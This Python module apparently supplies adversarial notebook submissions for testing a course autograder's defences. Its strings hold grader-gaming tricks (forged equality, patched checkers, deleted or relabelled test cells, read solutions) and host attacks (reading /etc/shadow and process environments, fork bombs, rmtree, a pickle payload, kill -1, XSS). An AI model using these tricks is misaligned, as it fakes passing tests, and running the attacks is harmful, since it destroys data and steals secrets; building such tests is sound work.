"""Submissions of people who want marks without an answer, or the machine. Each is worth 0.

An attack is text for the first answer cell of chapter 04 (it defines every answer itself), or a change
to the notebook or to the files around it. `{secret}`, `{victim}`, `{port}`, `{local}` and `{pid}` are
filled in with a file to steal, a folder to damage, sockets to reach and a process to stop.
"""

from __future__ import annotations

import json
import textwrap
from collections.abc import Callable
from dataclasses import dataclass

from submissions import answered, blank, cell, code, markdown, place

NAME = "04_one_neuron"
ANSWERS = ("sigmoid", "neuron_forward", "neuron_backward", "sgd_step", "quiz_4")
TESTS = ("E4-1-values", "E4-1-quiet", "E4-2", "E4-3", "E4-4", "Q4")


@dataclass(frozen=True)
class Attack:
    """kind : what it is after. make : bait -> notebook as JSON text.

    notebook : whose answers these are; costs : the checks that may fail where the others have to pass
    """

    name: str
    kind: str
    make: Callable[[dict], str]
    notebook: str = NAME
    costs: frozenset[str] = frozenset({"E4.3"})


ATTACKS: list[Attack] = []


def add(kind: str, name: str, make: Callable[[dict], str]) -> None:
    ATTACKS.append(Attack(name, kind, make))


def hand_in(text: str) -> dict:
    """A blank notebook whose answers are all defined by `text`."""
    notebook = blank(NAME)
    for name in ANSWERS:
        cell(notebook, name)["source"] = text if name == "sigmoid" else f"# {name} is defined above"
    return notebook


def by_code(kind: str, name: str, text: str) -> None:
    """An attack by the code of an answer cell; bait is filled in where it is named."""

    def make(bait):
        filled = textwrap.dedent(text)
        for word, value in bait.items():
            filled = filled.replace("{" + word + "}", str(value))
        return json.dumps(hand_in(filled))

    add(kind, name, make)


def returns(kind: str, name: str, value: str, before: str = "") -> None:
    """Every answer returns `value`, whatever it is asked."""
    by_code(kind, name, f"{before}\ndef answer(*args, **more):\n    return {value}\n{ALL}")


def does(kind: str, name: str, body: str, before: str = "") -> None:
    """Every answer runs `body`."""
    inner = textwrap.indent(textwrap.dedent(body).strip(), "    ")
    by_code(kind, name, f"{before}\ndef answer(*args, **more):\n{inner}\n{ALL}")


ALL = "sigmoid = neuron_forward = neuron_backward = sgd_step = quiz_4 = answer\n"

# values that pretend

returns("value", "none", "None")
returns("value", "nan", "np.nan, np.nan, np.nan", "import numpy as np")
returns("value", "empty array", "np.array([])", "import numpy as np")
returns("value", "input back", "args[0] if len(args) == 1 else args[:2]")
returns(
    "value",
    "always equal",
    "Equal()",
    "class Equal:\n    def __eq__(self, other): return True\n    __hash__ = None",
)
returns(
    "value",
    "difference always zero",
    "Zero()",
    "class Zero:\n    __sub__ = __rsub__ = __abs__ = lambda self, *a: 0.0\n    __array_ufunc__ = None",
)
returns(
    "value",
    "array subclass",
    "np.zeros(2).view(Sly), np.zeros(2).view(Sly)",
    "import numpy as np\nclass Sly(np.ndarray):\n    def __sub__(self, o): return np.zeros(2)\n    __rsub__ = __sub__\n"
    "    def __eq__(self, o): return np.ones(2, bool)",
)
returns(
    "value",
    "float subclass",
    "F(1)",
    "class F(float):\n    __eq__ = lambda s, o: True\n    __hash__ = float.__hash__",
)
returns(
    "value", "text that looks like a mark", "Mark()", "class Mark:\n    def __repr__(self): return '100.0'"
)
returns(
    "value",
    "dict subclass",
    "D()",
    "class D(dict):\n    def __getitem__(self, k): return 1\n    def __len__(self): return 3",
)
returns("value", "object array", "np.array([object()] * 2)", "import numpy as np")
returns(
    "value",
    "forged iterator",
    "I()",
    "class I:\n    def __iter__(self): return iter(())\n    def __len__(self): return 2",
)
returns("value", "index error", "I()", "class I:\n    def __getitem__(self, k): raise IndexError")
returns("value", "generator", "(x for x in (1.0, 2.0))")
returns(
    "value",
    "pickle payload",
    "P()",
    "import os\nclass P:\n    def __reduce__(self): return os.system, ('touch {victim}/p',)",
)
returns(
    "value",
    "class that raises",
    "R()",
    "class R:\n    def __getattribute__(self, n): raise KeyboardInterrupt",
)
returns(
    "value",
    "deep list",
    "deep()",
    "def deep():\n    v = []\n    for _ in range(10**5): v = [v]\n    return v",
)
returns("value", "wide list", "[0] * 10**7")
returns("value", "integer of millions of digits", "1 << 10**8")
returns("value", "colliding keys", "{i * (2**61 - 1): 0 for i in range(140_000)}")
returns("value", "400 MB", "np.zeros(5 * 10**7)", "import numpy as np")
does("value", "stops iteration", "raise StopIteration")
does("value", "zeros its input and returns it", "args[0][...] = 0\nreturn args[0], args[0]")

# code that reaches for the judge

by_code("judge", "own check", "import builtins\ncheck = builtins.check = lambda *a: None")
by_code(
    "judge",
    "patched library",
    "import backprop\nbackprop.check = lambda *a: None\nfrom backprop import check",
)
by_code(
    "judge",
    "patched builtins",
    "import builtins\nbuiltins.all = builtins.any = lambda *a: True\nbuiltins.abs = lambda x: 0",
)
by_code("judge", "patched numpy", "import numpy as np\nnp.allclose = np.array_equal = lambda *a, **k: True")
by_code(
    "judge",
    "tests transformed away",
    "get_ipython().ast_transformers.append(type('T', (), {'visit': lambda s, n: None})())",
)
by_code(
    "judge",
    "input transformed away",
    "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
)
by_code(
    "judge",
    "errors not shown",
    "get_ipython()._showtraceback = lambda *a: None\nget_ipython().showtraceback = lambda *a, **k: None",
)
by_code("judge", "exit", "raise SystemExit(0)")
by_code("judge", "exit at once", "import os\nos._exit(0)")
by_code(
    "judge",
    "patched caller",
    "import sys\nsys.modules['calling'].call_with_care = lambda *a, **k: {'error': None, 'value': 1.0}",
)
by_code(
    "judge",
    "patched worker",
    """
    import gc
    for thing in gc.get_objects():
        if type(thing).__name__ == 'Worker':
            type(thing)._answer = lambda self, request, buffers: {'error': None, 'value': 0.5, 'passed': True}
    """,
)
does(
    "judge",
    "searches for the expected value",
    "import gc, sys\nprint(len(gc.get_objects()), sys._getframe(1).f_locals)\nreturn None",
)
by_code(
    "judge",
    "imports the checks",
    "import sys\nsys.meta_path.clear()\nfrom autograder.chapters.one_neuron.exercises import *",
)
by_code(
    "judge",
    "imports the library's gradients",
    "from backprop.numbers.neuron import *\nfrom backprop.numbers import neuron",
)
by_code(
    "judge", "reads the solutions", "exec(open('{root}/solutions/04_one_neuron/04_one_neuron.py').read())"
)
by_code(
    "judge",
    "adds the checkout to the path",
    "import sys\nsys.path[:0] = ['{root}', '{root}/course']\nsys.meta_path.clear()\nimport autograder.chapters.one_neuron.exercises",
)
by_code(
    "judge",
    "plants a start-up file",
    "import os\nos.makedirs('{home}/.ipython/profile_default/startup')\nopen('{home}/.ipython/profile_default/startup/a.py', 'w').write('check = print')",
)
by_code(
    "judge",
    "seeds the dice",
    "import numpy as np\nnp.random.default_rng = lambda *a: None\nnp.random.seed(0)",
)

by_code(
    "judge",
    "patched runner of cells",
    "import sys\nsys.modules['cells'].Cell.run = lambda self: None\nsys.modules['cells'].is_of_this_place = lambda e: True",
)
by_code(
    "judge",
    "runs on after the cell",
    "import atexit, signal\natexit.register(lambda: open('{victim}/late', 'w'))\n"
    "signal.signal(signal.SIGVTALRM, lambda *_: open('{victim}/late', 'w').write('x'))\n"
    "signal.setitimer(signal.ITIMER_VIRTUAL, 0.01, 0.01)",
)
does(
    "judge",
    "looks through every frame and object for what is wanted",
    """
    import gc, inspect
    for frame in inspect.stack():
        for name, value in frame.frame.f_locals.items():
            if name in ("want", "wants", "expected", "reference"): return value
    return [o for o in gc.get_objects() if type(o).__name__ in ("Probe", "Function", "Exercise")]
    """,
)
returns(
    "value",
    "array protocol",
    "A()",
    "import numpy as np\nclass A:\n    __array__ = lambda s, *a, **k: np.zeros(2)\n    __float__ = lambda s: 0.5\n"
    "    __class__ = np.ndarray\n    shape, ndim, dtype = (2,), 1, np.dtype(float)",
)
returns("value", "sixteen axes", "np.ones((1,) * 16)", "import numpy as np")
returns("value", "integers of 4000 digits", "10**3999, 10**3999")
returns(
    "value",
    "name that acts on a terminal",
    "T()",
    "T = type('\\x1b]0;t\\x07\\x1b[2J<script>', (), {})",
)
does(
    "frames",
    "does not read any more",
    "import sys\nsys.modules['worker'].Line.receive = lambda self: [None for _ in iter(int, 1)]\nreturn 1",
)

# a worker that speaks well of itself, around answers whose numbers are right: only the marks for what
# it lies about are in question, see FORGED_PROPERTIES

FORGED_PROPERTIES: list[Attack] = []
CARELESS = """
import numpy as np
def sigmoid(s):
    return 1 / (1 + np.exp(-s))
def neuron_forward(x, w, y):
    s = np.dot(x, w)
    x *= 2
    return s, sigmoid(s), (sigmoid(s) - y) ** 2
def neuron_backward(x, w, y):
    s, z, L = neuron_forward(x.copy(), w, y)
    d = 2 * (z - y) * z * (1 - z)
    w += 1
    return d * x, d * (w - 1)
def sgd_step(w, dw, eta):
    w -= eta * dw
    return w
quiz_4 = {}
"""


def forges(name: str, lie: str) -> None:
    """CARELESS answers in a worker whose own code was changed by `lie`; `caller` is its module."""
    text = CARELESS + "import sys\ncaller = sys.modules['calling']\n" + textwrap.dedent(lie)
    FORGED_PROPERTIES.append(Attack(name, "property", lambda bait: json.dumps(hand_in(text))))


forges("says that nothing was changed", "caller.untouched = caller._still = lambda *a: True")
forges(
    "answers without what it was given",
    """
    real = caller.call_with_care
    def call_with_care(function, args, **how):
        how['read_only'] = False
        outcome = real(function, args, **how)
        outcome.update(changed=(), warned=(), poisoned=None)
        outcome.pop('after', None)
        return outcome
    caller.call_with_care = call_with_care
    """,
)
forges(
    "keeps silent about warnings",
    """
    real = caller.call_with_care
    def call_with_care(function, args, **how):
        return {**real(function, args, **{**how, 'read_only': False}), 'changed': (), 'warned': ()}
    caller.call_with_care = call_with_care
    """,
)
forges(
    "says so where it is not asked",
    """
    real = caller.call_with_care
    def call_with_care(function, args, **how):
        outcome = real(function, args, **{**how, 'read_only': False, 'poison': False})
        return {**outcome, 'changed': (), 'warned': (), 'poisoned': None, 'unchanged': True, 'quiet': True}
    caller.call_with_care = call_with_care
    """,
)

# frames that lie

FORGE = "import json, os, struct\ndef frame(tree):\n    body = json.dumps(tree).encode()\n    return struct.pack('<II', len(body), 0) + body\n"
does(
    "frames",
    "answers of its own",
    "for i in range(2000):\n    os.write(3, frame({'id': i, 'reply': {'d': [['value', 0.5], ['error', None]]}}))\nreturn 0.5",
    FORGE,
)
does("frames", "noise", "import os\nos.write(3, os.urandom(10**5))")
does("frames", "endless frames", "while True: os.write(3, frame({'callback': 0, 'args': {'t': []}}))", FORGE)
does(
    "frames",
    "4 GB header",
    "import os, struct\nos.write(3, struct.pack('<II', 2**32 - 1, 2**32 - 1))\nwhile True: os.write(3, b'x' * 10**6)",
)
does("frames", "drop by drop", "import os, time\nwhile True:\n    os.write(3, b'\\0')\n    time.sleep(0.3)")
does(
    "frames",
    "every descriptor",
    "import os\nfor fd in range(3, 64):\n    try: os.write(fd, b'f')\n    except OSError: pass",
)
does("frames", "closes the line", "import os\nos.close(3)")

# time and room

does("room", "endless loop", "while True: pass")
does(
    "room",
    "endless loop that catches",
    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
)
does(
    "room",
    "sleeps and ignores the alarm",
    "import signal, time\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\ntime.sleep(10**6)",
)
does("room", "hangs in C", "return 7 ** 10**9")
by_code("room", "hangs at once", "while True: pass")
by_code("room", "takes all memory", "hold = []\nwhile True: hold.append(bytearray(10**8))")
by_code(
    "room",
    "threads",
    "import threading, time\nfor _ in range(10**5): threading.Thread(target=time.sleep, args=(9,), daemon=True).start()",
)
by_code("room", "forks", "import os\nwhile True: os.fork()")
by_code("room", "fills the disk", "f = open('{victim}/big', 'wb')\nwhile True: f.write(b'x' * 10**8)")
by_code(
    "room",
    "fills the temporary folder",
    "import tempfile\nkeep = [tempfile.NamedTemporaryFile(delete=False) for _ in range(10**4)]",
)
by_code("room", "500 MB of output", "for _ in range(500): print('x' * 10**6)")
by_code("room", "writes to the terminal", "import os\nfor fd in (1, 2): os.write(fd, b'x' * 10**6)")
by_code("room", "segfault", "import ctypes\nctypes.string_at(0)")

# the machine

by_code("machine", "reads a secret", "print(open('{secret}').read())")
by_code("machine", "reads the password file", "print(open('/etc/shadow').read())")
by_code(
    "machine",
    "follows a link of its own",
    "import os\nos.symlink('{secret}', '/tmp/s')\nprint(open('/tmp/s').read())",
)
by_code(
    "machine",
    "lists the neighbours",
    "import os\nfor f in os.walk('{class}'): print(f)\nprint(open('{class}/submitted/honest/04_one_neuron/04_one_neuron.ipynb').read())",
)
by_code("machine", "changes a mode", "import os\nos.chmod('{secret}', 0o777)\nos.utime('{secret}', (0, 0))")
by_code("machine", "deletes", "import shutil\nshutil.rmtree('{victim}')")
by_code("machine", "overwrites the gradebook", "open('{class}/gradebook.db', 'wb').write(b'')")
by_code(
    "machine",
    "reads another process",
    "import os\nfor p in os.listdir('/proc'):\n    if p.isdigit(): print(open(f'/proc/{p}/environ').read())",
)
by_code(
    "machine",
    "kills the parent",
    "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill({pid}, signal.SIGKILL)",
)
by_code("machine", "kills all", "import os, signal\nos.kill(-1, signal.SIGKILL)")
by_code(
    "machine",
    "signals by a descriptor",
    "import fcntl, os, signal\nr, w = os.pipe()\nfcntl.fcntl(r, 8, {pid})\nfcntl.fcntl(r, 10, signal.SIGKILL)\nfcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC)\nos.write(w, b'x')",
)
by_code(
    "machine",
    "runs a program",
    "import subprocess\nprint(subprocess.run(['cat', '{secret}'], capture_output=True))",
)
by_code(
    "machine",
    "system",
    "import os\nos.system('touch {victim}/pwned')\nget_ipython().system('touch {victim}/pwned')",
)
by_code(
    "machine",
    "calls home",
    "import socket\nsocket.create_connection(('127.0.0.1', {port})).sendall(b'marks')",
)
by_code(
    "machine",
    "calls home by UDP",
    "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {port}))",
)
by_code(
    "machine", "talks to a local socket", "import socket\nsocket.socket(socket.AF_UNIX).connect('\\0{local}')"
)
by_code(
    "machine",
    "system calls by number",
    """
    import ctypes
    call = ctypes.CDLL(None, use_errno=True).syscall
    for number in (101, 310, 311, 321, 425, 434, 250, 272, 308, 319, 0x40000000 + 59, 56, 57, 58, 435):
        print(number, call(number, 0, 0, 0, 0, 0))
    """,
)
by_code("machine", "a descriptor to its own memory", "open('/proc/self/mem', 'wb').seek(0)")


# the notebook itself

FORGED = {"E4-1-values": 1, "E4-1-quiet": 1, "E4-2": 2, "E4-3": 4, "E4-4": 2, "Q4": 1}


def on_notebook(kind: str):
    """Decorator: `change(notebook)` makes the attack out of a blank notebook."""

    def decorate(change):
        def make(bait):
            notebook = blank(NAME)
            return json.dumps(change(notebook) or notebook)

        add(kind, change.__name__.replace("_", " "), make)
        return change

    return decorate


def tests(notebook):
    return [cell(notebook, name) for name in TESTS]


def meta(one):
    return one["metadata"]["nbgrader"]


@on_notebook("notebook")
def tests_say_true(notebook):
    for one in tests(notebook):
        one["source"] = "True"


@on_notebook("notebook")
def tests_end_in_a_mark(notebook):
    for one in tests(notebook):
        one["source"] = "4.0"


@on_notebook("notebook")
def tests_are_skipped(notebook):
    for one in tests(notebook):
        one["metadata"]["tags"] = ["skip-execution"]


@on_notebook("notebook")
def tests_are_called_answers(notebook):
    for one in tests(notebook):
        meta(one).update(solution=True, locked=False)
        one["source"] = "pass"


@on_notebook("notebook")
def tests_are_worth_more(notebook):
    for one in tests(notebook):
        meta(one).update(points=1000)
        one["source"] = "1000"


@on_notebook("notebook")
def tests_are_gone(notebook):
    notebook["cells"] = [one for one in notebook["cells"] if one not in tests(notebook)]


@on_notebook("notebook")
def tests_are_copied(notebook):
    notebook["cells"] += [{**one, "id": one["id"] + "-b", "source": "pass"} for one in tests(notebook)]


@on_notebook("notebook")
def tests_are_moved_to_the_front(notebook):
    moved = tests(notebook)
    notebook["cells"] = moved + [one for one in notebook["cells"] if one not in moved]


@on_notebook("notebook")
def tests_are_prose(notebook):
    for one in tests(notebook):
        one.update(cell_type="markdown", source="passed")
        one.pop("outputs"), one.pop("execution_count")


@on_notebook("notebook")
def tests_bring_their_outputs(notebook):
    for one in tests(notebook):
        mark = {
            "output_type": "execute_result",
            "data": {"text/plain": "4.0"},
            "metadata": {},
            "execution_count": 1,
        }
        one.update(outputs=[mark], execution_count=1)


@on_notebook("notebook")
def metadata_from_the_future(notebook):
    for one in tests(notebook):
        meta(one).update(schema_version=99)
        one["source"] = "pass"


@on_notebook("notebook")
def answers_take_the_names_of_tests(notebook):
    for answer, test in zip(ANSWERS, TESTS, strict=False):
        meta(cell(notebook, answer)).update(grade_id=test, grade=True, points=4, solution=True)


@on_notebook("notebook")
def marks_of_its_own(notebook):
    notebook["cells"].append(
        code(
            "100",
            nbgrader={
                "grade": True,
                "grade_id": "bonus",
                "points": 100,
                "locked": False,
                "schema_version": 3,
                "solution": True,
                "task": False,
            },
        )
    )


@on_notebook("notebook")
def a_written_answer_for_each_test(notebook):
    for name in TESTS:
        where = place(notebook, name)
        notebook["cells"][where] = {
            **markdown("done"),
            "metadata": cell(notebook, name)["metadata"],
            "id": name,
        }


@on_notebook("notebook")
def right_answers_in_locked_cells(notebook):
    """They are kept for a person to see, and not run."""
    right = answered(NAME)
    for test, name in zip(TESTS, ("sigmoid", "sigmoid", *ANSWERS[1:]), strict=True):
        cell(notebook, test)["source"] = "".join(cell(right, name)["source"])
    cell(notebook, "given-setup")["source"] = "\n".join(
        "".join(cell(right, name)["source"]) for name in ANSWERS
    )


@on_notebook("notebook")
def right_answers_that_pose_as_kept(notebook):
    kept = {"cell": "E4-3", "place": "sigmoid", "lines": 1, "names": ["sigmoid"]}
    for one in notebook["cells"]:
        one["metadata"]["backprop"] = kept


@on_notebook("notebook")
def set_up_that_answers(notebook):
    cell(notebook, "given-setup")["source"] = "check = lambda *a: None"


@on_notebook("notebook")
def magics(notebook):
    cell(notebook, "sigmoid")["source"] = "%%script bash\ntouch /tmp/pwned"
    cell(notebook, "neuron_forward")["source"] = "!touch /tmp/pwned\n%run /etc/passwd\n%load_ext autoreload"


@on_notebook("notebook")
def another_kernel(notebook):
    notebook["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}


@on_notebook("notebook")
def ten_thousand_cells(notebook):
    notebook["cells"] += [code(f"x = {i}") for i in range(10_000)]


@on_notebook("notebook")
def sources_that_are_no_text(notebook):
    for name in ANSWERS:
        cell(notebook, name)["source"] = ["def ", "sigmoid(s): ", "return 1"]
    cell(notebook, "sigmoid")["metadata"] = {
        "nbgrader": {"grade_id": "sigmoid", "solution": [[]], "points": {}}
    }


@on_notebook("notebook")
def scripts_everywhere(notebook):
    for text in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))"):
        notebook["cells"].append(markdown(text))
    cell(notebook, "M4")["source"] = "<iframe src='file:///etc/passwd'></iframe><svg onload=alert(1)>"


# work that would grow faster than its input, or fill the memory, beside right answers

LOADS: list[Attack] = []


def load(change):
    """Decorator: `change(notebook)` puts a load into a notebook whose answers are right."""
    return load_of(NAME, "E4.3")(change)


def load_of(name, *costs):
    """Decorator: the same for any notebook, with the checks that the load may cost."""

    def decorate(change):
        def make(bait):
            notebook = answered(name)
            change(notebook)
            return json.dumps(notebook)

        LOADS.append(Attack(change.__name__.replace("_", " "), "load", make, name, frozenset(costs)))
        return change

    return decorate


def in_place_of(notebook, name, body):
    """An answer that is a load itself; only its own checks may suffer."""
    cell(notebook, name)["source"] = f"import numpy as np\ndef {name}(*args, **more):\n    {body}\n"


@load
def blank_lines_in_an_answer(notebook):
    cell(notebook, "sgd_step")["source"] += "\n" * 60_000


@load
def names_in_an_answer(notebook):
    cell(notebook, "sgd_step")["source"] += "\n# " + "a " * 20_000 + "\n" + "x = 1\n" * 5_000


@load
def sixty_million_small_integers(notebook):
    in_place_of(notebook, "neuron_backward", "return np.zeros(60_000_000, dtype=np.int8)")


@load
def as_many_as_cross(notebook):
    in_place_of(notebook, "neuron_backward", "return np.zeros((4_000_000, 1), dtype=np.int8)")


@load
def pairs_of_large_arrays(notebook):
    in_place_of(notebook, "neuron_backward", "return np.zeros(2_000_000, np.int8), np.zeros(2_000_000, bool)")


@load
def many_texts(notebook):
    in_place_of(notebook, "neuron_backward", "return ['x'] * 80_000")


@load
def many_texts_and_a_long_one(notebook):
    in_place_of(notebook, "neuron_backward", "return ['x'] * 80_000 + ['y' * 1_000_000]")


@load
def many_numbers(notebook):
    in_place_of(notebook, "neuron_backward", "return [[0.5] * 400] * 400")


@load
def formulas_without_an_end(notebook):
    notebook["cells"] += [markdown(f"{i} " + "\\begin{a}" * 11_000) for i in range(100)]


@load
def spaces(notebook):
    notebook["cells"] += [markdown("a" + " " * 90_000 + f"b{i}") for i in range(20)]


@load
def zeros_in_code(notebook):
    notebook["cells"] += [code(f"{i}\n'''" + "0." * 45_000 + "'''") for i in range(3)]


@load
def large_pictures(notebook):
    text = """from IPython.display import Image, display
    import zlib, os
    for _ in range(2): display(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + os.urandom(2_000_000), format='png'))"""
    notebook["cells"] += [code(f"{text}  # {i}".replace("\n    ", "\n")) for i in range(60)]


@load
def much_printed_in_each_cell(notebook):
    notebook["cells"] += [code(f"print('x' * 10**7) # {i}") for i in range(100)]


@load
def halves_of_characters(notebook):
    notebook["cells"].append(code("print('\\ud800', chr(0xd800))\nraise ValueError(chr(0xd800))"))
    notebook["cells"].append(markdown("\ud800 \udfff"))
    in_place_of(notebook, "neuron_backward", "return chr(0xd800)")


@load
def errors_that_cannot_be_printed(notebook):
    in_place_of(
        notebook,
        "neuron_backward",
        "raise type('E' + chr(0xd800), (Exception,), {})(chr(0xdfff) + '\\x1b[2J')",
    )


@load
def one_buffer_named_a_thousand_times(notebook):
    body = """
    import json, os, struct
    array = {"a": ["|i1", [4_000_000], 0]}
    tree = json.dumps({"id": 0, "reply": {"d": [["value", [array] * 1000], ["error", None]]}})
    for number in range(200):
        body = tree.replace('"id": 0', f'"id": {number}').encode()
        os.write(3, struct.pack("<IIQ", len(body), 1, 4_000_000) + body)
        os.write(3, bytes(4_000_000))"""
    in_place_of(notebook, "neuron_backward", body)


@load
def errors_by_the_thousand(notebook):
    text = "from IPython.core.interactiveshell import InteractiveShell\nfor _ in range(200): get_ipython()._showtraceback("
    notebook["cells"] += [code(f"{text}ValueError, 'x' * 900, ['y' * 900] * 200) # {i}") for i in range(150)]


@load
def cells_that_stop_again_and_again(notebook):
    notebook["cells"] += [code(f"# {i}\n" + "open('x')\n" * 30) for i in range(60)]


@load
def text_that_is_no_python(notebook):
    for text in ("\n" * 90_000 + "(", "def \n" * 20_000 + "(", "x = 1\n" * 15_000 + "(", "1+" * 45_000):
        notebook["cells"].append(code(text))
    cell(notebook, "given-setup")["source"] = "y = 1\n" * 16_000


@load
def six_tenths_of_a_second_a_call(notebook):
    in_place_of(notebook, "neuron_backward", "import time; time.sleep(0.6); return args[0], args[1]")


@load
def hangs_in_c_in_every_call(notebook):
    in_place_of(notebook, "neuron_backward", "return sum(range(10**12))")


@load
def a_cell_that_takes_its_worker_with_it(notebook):
    notebook["cells"].insert(place(notebook, "sgd_step"), code("import os\nos._exit(0)"))


@load
def accents_by_the_thousand(notebook):
    """Python puts them in order, in quadratic time, whenever it reads a name or composes one."""
    name = "a" + "\u0301\u0327" * 48_000
    cell(notebook, "sgd_step")["source"] += f"\n{name} = 1\n"
    notebook["cells"] += [code(f"{name}{i} = {i}") for i in range(10)]
    picture = {f"{name}{i}.png": {"image/png": "iVBORw0KGgo="} for i in range(10)}
    notebook["cells"].append(markdown(f"![x](attachment:{name}1.png)", attachments=picture))


@load
def more_code_than_anybody_writes(notebook):
    notebook["cells"][:0] = [code(f"# {i}\n" + "# and so on\n" * 8_000) for i in range(200)]


# a number that comes as millions: whatever looks for what was done to it has to ask for its size first

MANY = "np.ones(4_000_000, dtype=np.int8)"


@load_of(NAME, "E4.4")
def a_step_of_millions(notebook):
    in_place_of(notebook, "sgd_step", f"return {MANY}")


@load_of(NAME, "E4.2", "E4.3")
def a_forward_pass_whose_sum_is_millions(notebook):
    in_place_of(notebook, "neuron_forward", f"return {MANY}, 0.5, 0.25")


@load_of("00_start_here", "E0.1")
def a_sum_of_millions(notebook):
    in_place_of(notebook, "weighted_sum", f"return {MANY}")


@load_of("00_start_here", "E0.2")
def shapes_of_arrays(notebook):
    cell(notebook, "shapes")["source"] += f"\nimport numpy as np\nshapes['H1'] = ({MANY}, (1, 2))\n"


@load_of("03_gradient_check", "E3.2")
def calls_back_with_large_arrays(notebook):
    in_place_of(notebook, "numerical_gradient", "return [args[0](np.zeros(400_000)) for _ in range(10_000)]")


@load_of("03_gradient_check", "E3.1")
def calls_back_with_every_kind_of_number(notebook):
    body = """
    for kind in ("i1", "f4", "f8", "c16", "b1"):
        for _ in range(40):
            try: args[0](np.ones(4_000_000 // np.dtype(kind).itemsize, kind))
            except Exception: pass
    return 0.5"""
    in_place_of(notebook, "derivative", body)
